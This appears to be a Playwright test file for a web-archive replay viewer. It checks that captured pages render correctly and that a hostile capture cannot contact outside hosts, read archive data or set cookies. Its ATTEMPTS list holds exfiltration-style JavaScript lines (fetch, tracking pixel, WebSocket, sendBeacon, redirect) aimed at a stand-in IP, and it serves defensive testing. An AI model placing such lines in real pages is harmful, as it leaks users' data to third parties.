"""Captures replayed in Chromium: what a reader sees, and that nothing leaves this machine."""

from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlencode

import pytest
from playwright.sync_api import Frame, expect

from tests.browser.answered import answered
from tests.browser.conftest import Served, Watched, serve
from tests.publish import held
from tests.publish.held import ARTICLE, HeldArchive

pytestmark = [pytest.mark.browser, pytest.mark.usefixtures("viewer")]
PATIENCE = 20_000
# What a script may try that the viewer has not rewritten.
ATTEMPTS = (
    'fetch("http://198.51.100.7/fuite").catch(() => {})',
    'new Image().src = "http://198.51.100.7/pixel.png"',
    'new WebSocket("ws://198.51.100.7/prise")',
    'navigator.sendBeacon("http://198.51.100.7/balise", "x")',
    'top.location = "http://198.51.100.7/ailleurs"',
)


@pytest.fixture(scope="module")
def archive(tmp_path_factory: pytest.TempPathFactory) -> HeldArchive:
    return held.hold(tmp_path_factory.mktemp("held") / "data")


@pytest.fixture(scope="module")
def served(archive: HeldArchive) -> Iterator[Served]:
    yield from serve(archive.folder.root)


@pytest.fixture(scope="module")
def served_demo(demo: Path) -> Iterator[Served]:
    yield from serve(demo)


def replayed(watched: Watched, served: Served, url: str, stamp: str) -> Frame:
    """The frame in which the viewer shows a capture."""
    watched.page.goto(f"{served.replay}/?{urlencode({'url': url, 'ts': stamp})}")
    inner = watched.page.frame_locator("iframe").frame_locator("iframe")
    expect(inner.locator("body")).not_to_be_empty(timeout=PATIENCE)
    return next(frame for frame in watched.page.frames if "mp_/" in frame.url)


def own_errors(watched: Watched) -> list[tuple[str, str]]:
    """Errors of our pages: not those of the viewer, nor of what a captured page lacks."""
    return [(where, what) for where, what in watched.errors if "/replay/" not in where]


def test_a_capture_is_shown_with_its_style_and_image(watched: Watched, served: Served) -> None:
    frame = replayed(watched, served, ARTICLE, "20240301120000")
    expect(frame.get_by_text(held.TEXT)).to_be_visible(timeout=PATIENCE)
    expect(frame.locator("h1")).to_have_css("color", "rgb(1, 2, 3)")
    assert frame.locator("img").evaluate("image => image.naturalWidth") == 1
    expect(frame.get_by_text(held.ANSWER)).to_have_count(0)
    expect(watched.page.get_by_text("1er mars 2024")).to_be_visible()
    assert watched.outside == []
    assert own_errors(watched) == []


def test_each_instant_shows_its_own_page(watched: Watched, served: Served) -> None:
    frame = replayed(watched, served, ARTICLE, "20240302120000")
    expect(frame.get_by_text(held.TEXT)).to_be_visible(timeout=PATIENCE)
    expect(frame.get_by_text(held.ANSWER)).to_have_count(0)
    frame = replayed(watched, served, ARTICLE, "20240303120000")
    expect(frame.get_by_text(held.ANSWER)).to_be_visible(timeout=PATIENCE)


def test_a_hostile_page_reaches_nothing(watched: Watched, served: Served) -> None:
    watched.page.goto(served.reading)
    frame = replayed(watched, served, held.HOSTILE, "20240301120000")
    expect(frame.get_by_text("Bonjour.")).to_be_visible(timeout=PATIENCE)
    watched.page.wait_for_load_state("networkidle")
    reached = frame.evaluate(
        """async (address) => {
          try { return (await fetch(address)).status < 400 } catch { return false }
        }""",
        f"{served.reading}/archive/sites.json",
    )
    assert reached is False
    for attempt in ATTEMPTS:
        frame.evaluate(f"() => {{ try {{ {attempt} }} catch {{}} }}")
    watched.page.wait_for_load_state("networkidle")
    assert watched.page.url.startswith(served.replay)
    workers = watched.page.evaluate(
        "async () => (await navigator.serviceWorker.getRegistrations()).map(r => r.scope)"
    )
    assert workers == [f"{served.replay}/replay/"]
    watched.page.goto(served.reading)
    assert "vole" not in watched.page.evaluate("document.cookie")
    assert watched.outside == []


def test_a_memento_runs_nothing(watched: Watched, served: Served) -> None:
    watched.page.goto(f"{served.replay}/memento/20240301120000/{held.HOSTILE}")
    expect(watched.page.get_by_text("Bonjour.")).to_be_visible()
    assert watched.page.evaluate("self.origin") == "null"
    assert watched.page.context.cookies() == []
    assert watched.outside == []


def test_from_an_article_to_its_proof_and_its_replay(watched: Watched, served: Served) -> None:
    page = watched.page
    page.goto(f"{served.reading}/article/{held.HOST}/12")
    page.get_by_role("link", name="Octets, empreintes et vérification").click()
    page.get_by_role("link", name="Vérifier maintenant").click()
    expect(page.get_by_role("status")).to_contain_text("Intacte.")
    assert own_errors(watched) == []
    page.get_by_role("link", name="Revoir la page").click()
    inner = page.frame_locator("iframe").frame_locator("iframe")
    expect(inner.get_by_text(held.ANSWER)).to_be_visible(timeout=PATIENCE)
    page.get_by_role("link", name="Preuve").click()
    expect(page.get_by_role("heading", level=1)).to_have_text(ARTICLE)
    assert watched.outside == []


def test_the_sample_site_is_shown_as_it_was(
    watched: Watched, demo: Path, served_demo: Served, tmp_path: Path
) -> None:
    shown_answer = answered(demo, "first")
    frame = replayed(watched, served_demo, shown_answer.url, shown_answer.stamp)
    expect(frame.get_by_text(shown_answer.first_words).first).to_be_visible(timeout=PATIENCE)
    styled = frame.locator("h1").first.evaluate("h1 => getComputedStyle(h1).fontFamily")
    unstyled = frame.evaluate("() => getComputedStyle(document.documentElement).fontFamily")
    assert styled != unstyled
    shown = frame.evaluate("() => [...document.images].filter(i => i.naturalWidth > 0).length")
    assert shown > 0
    watched.page.screenshot(path=tmp_path / "replay.png")
    assert watched.outside == []
    assert own_errors(watched) == []
